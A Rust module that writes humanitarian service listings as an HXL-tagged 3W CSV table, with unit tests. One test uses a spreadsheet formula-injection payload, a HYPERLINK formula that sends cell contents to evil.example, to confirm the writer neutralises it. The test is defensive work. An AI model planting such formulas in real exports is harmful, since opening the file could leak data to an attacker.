//! Services as a 3W-style table ("who does what where") with HXL hashtags,
//! the Humanitarian Exchange Language that HDX and OCHA's tools read: a header
//! row for people, a hashtag row for machines, then one row per service and
//! sector. The CI checks the file with libhxl against a schema.

use crate::csv_out::{Cell, SafeCsvWriter};
use acoge_domain::service::{Service, ServiceStatus};

/// One service with the names a table shows beside it.
pub struct ServiceRow<'a> {
    pub service: &'a Service,
    pub organization_name: &'a str,
    pub organization_kind: &'a str,
    pub municipality_name: &'a str,
    pub state_name: &'a str,
}

const COLUMNS: [(&str, &str); 16] = [
    ("Organización", "#org +name"),
    ("Id de la organización", "#org +id"),
    ("Tipo de organización", "#org +type"),
    ("Servicio", "#service +name"),
    ("Id del servicio", "#service +id"),
    ("Sector", "#sector"),
    ("Clave del estado", "#adm1 +code"),
    ("Estado", "#adm1 +name"),
    ("Clave del municipio", "#adm2 +code"),
    ("Municipio", "#adm2 +name"),
    ("Costo", "#service +cost"),
    ("Estado del servicio", "#status"),
    ("Fuentes", "#meta +source"),
    ("Verificado", "#meta +verified"),
    ("Latitud", "#geo +lat"),
    ("Longitud", "#geo +lon"),
];

/// The table as CSV text. One row per sector of each service, as 3W tables
/// count presence per sector. Names are as members typed them, so the
/// writer defuses any that could start a spreadsheet formula.
pub fn services_csv(rows: &[ServiceRow<'_>]) -> Result<String, csv::Error> {
    let mut writer = SafeCsvWriter::in_memory();
    writer.write_text_row(COLUMNS.map(|(label, _)| label))?;
    writer.write_text_row(COLUMNS.map(|(_, tag)| tag))?;
    for row in rows {
        let s = row.service;
        let status = match s.status {
            ServiceStatus::Active => "activo",
            ServiceStatus::Closed(_) => "cerrado",
        };
        let coordinates = s.location.coordinates.as_ref();
        for sector in &s.sectors {
            writer.write_row([
                Cell::text(row.organization_name),
                Cell::text(s.organization_id.to_string()),
                Cell::text(row.organization_kind),
                Cell::text(s.name.as_str()),
                Cell::text(s.id.to_string()),
                Cell::text(sector.slug()),
                Cell::text(s.location.cvegeo.state().as_str()),
                Cell::text(row.state_name),
                Cell::text(s.location.cvegeo.as_str()),
                Cell::text(row.municipality_name),
                Cell::text(s.cost.slug()),
                Cell::text(status),
                Cell::text(s.provenance.joined_sources()),
                Cell::text(if s.provenance.verified { "si" } else { "no" }),
                Cell::number(coordinates.map(|c| c.lat)),
                Cell::number(coordinates.map(|c| c.lon)),
            ])?;
        }
    }
    writer.into_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use acoge_domain::{
        Cvegeo, Provenance,
        geo::Coordinates,
        practice::Sector,
        service::{ServiceCost, ServiceLocation},
    };
    use uuid::Uuid;

    /// A free, active service in Tapachula, unverified, with no other details.
    fn tapachula_service(name: &str, sectors: Vec<Sector>) -> Service {
        Service {
            id: Uuid::now_v7(),
            organization_id: Uuid::now_v7(),
            name: name.into(),
            description: String::new(),
            sectors,
            populations: vec![],
            eligibility: String::new(),
            languages: vec![],
            cost: ServiceCost::Free,
            hours: String::new(),
            how_to_access: String::new(),
            capacity: None,
            location: ServiceLocation {
                cvegeo: Cvegeo::parse("07089").unwrap(),
                address: None,
                coordinates: None,
            },
            status: ServiceStatus::Active,
            last_verified: None,
            provenance: Provenance {
                sources: vec![],
                verified: false,
            },
        }
    }

    /// The CSV of `service` alone, offered by `organization_name`.
    fn csv_of(service: &Service, organization_name: &str) -> String {
        services_csv(&[ServiceRow {
            service,
            organization_name,
            organization_kind: "albergue",
            municipality_name: "Tapachula",
            state_name: "Chiapas",
        }])
        .unwrap()
    }

    #[test]
    fn a_hashtag_row_follows_the_header_and_each_sector_is_a_row() {
        let mut service = tapachula_service(
            "Atención, \"médica\"",
            vec![Sector::Health, Sector::MentalHealth],
        );
        service.provenance.sources = vec![
            "https://example.org/a".into(),
            "https://example.org/b".into(),
        ];
        let csv = csv_of(&service, "Casa");
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[1].starts_with("#org +name,#org +id"));
        assert!(lines[2].contains(",salud,07,Chiapas,07089,Tapachula,gratuito,activo,"));
        assert!(lines[3].contains(",salud_mental,"));
        assert!(
            lines[2].contains("\"Atención, \"\"médica\"\"\""),
            "quoted as CSV"
        );
        assert!(
            lines[2].ends_with("https://example.org/a | https://example.org/b,no,,"),
            "no coordinates: empty cells"
        );
    }

    #[test]
    fn a_formula_for_a_name_is_defused_and_coordinates_stay_numbers() {
        let mut service = tapachula_service(
            "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")",
            vec![Sector::Health],
        );
        service.location.coordinates = Some(Coordinates::in_mexico(14.9, -92.26).unwrap());
        let csv = csv_of(&service, "@Casa");
        let row = csv.lines().nth(2).unwrap();
        assert!(row.starts_with("'@Casa,"), "{row}");
        assert!(
            row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Ver\"\")\","),
            "{row}"
        );
        assert!(row.ends_with(",no,14.9,-92.26"), "{row}");
    }
}
